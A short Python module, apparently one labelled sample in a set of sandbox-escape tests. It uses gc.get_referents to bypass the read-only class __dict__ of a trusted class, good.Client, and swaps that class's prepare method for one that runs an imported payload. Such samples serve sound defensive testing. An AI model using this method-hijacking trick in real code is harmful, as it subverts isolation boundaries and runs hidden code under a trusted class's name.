"""The collector gives the dictionary of a granted class, and it is written."""
CATEGORY = "borrowed"
REACH = "net"

import gc

import good

from . import payload


def prepare(self):
    payload.act()
    return "good"


def attack():
    gc.get_referents(good.Client.__dict__)[0]["prepare"] = prepare
